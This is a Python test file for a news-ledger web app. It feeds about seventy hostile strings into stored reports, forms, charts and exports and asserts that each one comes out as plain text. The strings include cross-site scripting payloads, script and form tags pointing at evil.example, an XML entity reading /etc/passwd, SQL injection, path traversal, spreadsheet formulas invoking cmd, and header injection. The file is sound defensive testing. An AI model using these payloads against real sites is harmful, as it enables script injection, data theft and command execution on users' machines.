"""Texts made to break pages, each stored as text, title, outlet, author and name, and looked at wherever it shows.

Each must come out as text: no element, attribute, address or script of its own, nothing that turns or hides what stands
round it, no spreadsheet formula; in pages, JSON, charts and exports.
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from diurna.export.formats import FORMATS
from diurna.ledger.store import Ledger
from diurna.ledger.tallies import Dealing
from diurna.model.record import Reading
from diurna.web.app import create_app
from diurna.web.charts import by_kind, matrix
from diurna.web.maps import Spot, chart_map
from diurna.web.room import RoomOptions
from diurna.web.wording import visible
from tests import readings
from tests.web.asking import json_of, token_of
from tests.web.test_attacks import Seen, read_by_rules

TEXTS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script unclosed": "<script>alert(1)//",
    "script nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script split by a zero": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script after a slash": "<script/x>alert(1)</script>",
    "script with a tab": "<script\t>alert(1)</script\t>",
    "image": "<img src=x onerror=alert(1)>",
    "image without spaces": "<img/src=x/onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "svg foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "body": "<body onload=alert(1)>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=data:text/html,<script>alert(1)</script>></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "form": "</form><form action=//evil.example method=post><button name=verdict value=accept>",
    "input": "<input autofocus onfocus=alert(1)>",
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "title closed": "</title><script>alert(1)</script>",
    "textarea closed": "</textarea><script>alert(1)</script>",
    "comment closed": "--><script>alert(1)</script><!--",
    "comment opened": "<!-- everything after this is gone",
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "double quote": '" onmouseover="alert(1)',
    "single quote": "' onmouseover='alert(1)",
    "back quote": "` onmouseover=`alert(1)",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "half entities": "&#x3c;script&#x3e; &notanentity &amp;amp;",
    "template braces": "{{ 7*7 }}{% include '/etc/passwd' %}{# gone #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "javascript address": "javascript:alert(1)",
    "javascript address in a link": "[x](javascript:alert(1)) <a href=java&#10;script:alert(1)>x</a>",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "turned round": "\u202eesrever\u202c",
    "isolated": "\u2066left\u2067right\u2068first\u2069",
    "embedded direction": "\u202aa\u202bb\u202dc",
    "control characters": "a\x07b\x08c\x1b[31mred\x1b[0m",
    "zero": "before\x00after",
    "half a surrogate pair": "half \ud83d pair",
    "line separators": "one\u2028two\u2029three",
    "wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "marks upon marks": "Z" + "\u0334\u0335\u0336" * 60,
    "tags of the invisible": "a\U000e0041\U000e0042b",
    "formula": "=HYPERLINK(\"http://evil.example\",\"x\")",
    "formula with plus": "+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "cells": 'a","b\r\n=1+1,"c',
    "path": "../../../../etc/passwd",
    "sql": "'; DROP TABLE statements; --",
    "sql like": "%' OR 1=1 --",
    "full text": 'NEAR("a" "b") AND * ^ : - +',
    "format string": "%s %n %x {0} {self.__class__}",
    "header": "x\r\nSet-Cookie: diurna=evil\r\n\r\n<script>alert(1)</script>",
    "long word": "\u0630" * 20_000,
    "long name with spaces": "of the " * 2_000,
}  # fmt: skip
BARE = re.compile("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
NEVER = {
    "img", "iframe", "object", "embed", "base", "style", "marquee", "video", "math", "animate", "foreignobject",
}  # fmt: skip
ASKED = (
    "/search?q={said}", "/search?q=square&outlet={said}", "/reports?outlet={said}&actor={said}",
    "/actors?name={said}", "/{said}", "/actors/{said}", "/timeline?actor={said}", "/gaps?kind={said}", "/?as={said}",
    "/reports/{report}?q={said}", "/search?q={said}&after={said}",
)  # fmt: skip
LISTS = (
    "/", "/reports", "/gaps?state=all", "/actors", "/actors?order=name", "/commitments", "/stories", "/timeline",
    "/network", "/map", "/charts", "/review", "/journal", "/runs", "/search?q=square",
)  # fmt: skip


@dataclass(frozen=True)
class Stored:
    """Where a hostile text is kept."""

    client: TestClient
    ledger: Path
    report: dict[str, str]


def reading_of(name: str, attack: str) -> Reading:
    text = f"Oren Tal said {attack} in the square.\n\nThe army shelled {attack} on Tuesday. Oren Tal denied {attack}."
    url = f"https://wire.example/{quote(name)}"
    return read_by_rules(readings.report(text, title=attack, outlet=attack, author=attack, url=url))


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stored]:
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    made = {name: reading_of(name, attack) for name, attack in TEXTS.items()}
    with Ledger(path) as kept:
        kept.add(made.values())
    options = RoomOptions(str(path), engine="rules")
    with TestClient(create_app(options), base_url="http://localhost", raise_server_exceptions=False) as client:
        yield Stored(client, path, {name: one.report.id for name, one in made.items()})


def looked_at(stored: Stored, path: str) -> tuple[str, Seen]:
    """A page, after it was seen to have no markup but its own."""
    got = stored.client.get(path)
    assert got.status_code in (200, 400, 404), (path, got.status_code)
    page = Seen()
    page.feed(got.text)
    assert not NEVER & page.tags, (path, NEVER & page.tags)
    assert not any(name.startswith("on") or name in ("style", "srcdoc") for name in page.attributes), path
    assert got.text.count("<script") == 1, path
    assert not BARE.search(got.text), path
    for link in page.links:
        assert re.match(r"/(?!/)|#|https://wire\.example/", link), (path, link)
    return got.text, page


@pytest.mark.parametrize("name", list(TEXTS))
def test_a_hostile_text_is_shown_as_text(stored: Stored, name: str) -> None:
    attack, report = TEXTS[name], stored.report[name]
    _, page = looked_at(stored, f"/reports/{report}")
    told = json_of(stored.client, f"/reports/{report}")
    shown = " ".join(visible(attack).encode("utf-8", "replace").decode().split())
    assert shown[:2000] in " ".join(page.text.split())
    assert attack.replace("\r", "\n") in told["text"].replace("\r", "\n")
    for record in (*told["statements"], *told["events"]):
        looked_at(stored, f"/cite/{record['id']}")
    for gap in told["gaps"]:
        looked_at(stored, f"/gaps/{gap['id']}")
    for actor in told["actors"]:
        looked_at(stored, f"/actors/{quote(actor['name'].encode('utf-8', 'replace'), safe='')}")
    said = quote(attack[:500].encode("utf-8", "replace"))
    for path in ASKED:
        looked_at(stored, path.format(said=said, report=report))


@pytest.mark.parametrize("name", list(TEXTS))
def test_a_hostile_text_handed_in_is_shown_as_text(stored: Stored, name: str) -> None:
    attack = TEXTS[name].encode("utf-8", "replace").decode()
    form = {"token": token_of(stored.client), "text": f"Oren Tal said {attack} today.", "title": attack}
    got = stored.client.post("/read", data=form)
    page = Seen()
    page.feed(got.text)
    assert got.status_code == 200
    assert got.text.count("<script") == 1
    assert not NEVER & page.tags
    assert not BARE.search(got.text)


def test_lists_show_all_of_them_as_text(stored: Stored) -> None:
    for path in LISTS:
        looked_at(stored, path)


@pytest.mark.parametrize("name", list(TEXTS))
def test_charts_of_a_hostile_name_are_text_and_numbers(name: str) -> None:
    attack = TEXTS[name]
    drawn = [
        by_kind([(attack, 1)], "kinds", attack, attack),
        matrix([Dealing(attack, attack + "2", 4, 3)], "matrix", attack),
        chart_map([Spot(attack, 1.0, 2.0, "city", 3)], "map", attack),
    ]
    for chart in drawn:
        text = str(chart.svg).encode("utf-8", "replace").decode()
        allowed = {"svg", "title", "desc", "defs", "pattern", "rect", "text", "line", "circle", "path", "g"}
        assert {element.tag.split("}")[1] for element in ET.fromstring(text).iter()} <= allowed  # noqa: S314 - made here
        assert not BARE.search(text)
        for row in csv.reader(io.StringIO(chart.csv())):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


@pytest.mark.parametrize("format_name", sorted(FORMATS))
def test_exports_hold_no_formula_and_no_markup(stored: Stored, format_name: str) -> None:
    with Ledger(stored.ledger) as kept:
        body = b"".join(FORMATS[format_name].write(kept.view().readings()))
    if format_name in ("csv", "quotes", "gdelt", "polecat", "acled", "citron"):
        rows = csv.reader(io.StringIO(body.decode("utf-8", "replace")), delimiter="\t" if b"\t" in body[:400] else ",")
        formulas = [cell for row in rows for cell in row if re.match(r"[=+@].|-\D", cell)]
        assert not formulas, formulas[:3]
    if format_name == "html":
        page = Seen()
        page.feed(body.decode())
        assert not (NEVER - {"style"}) & page.tags  # its own style stands in it: it is one file
    if format_name in ("graphml", "gexf"):
        ET.fromstring(body)  # noqa: S314 - made here
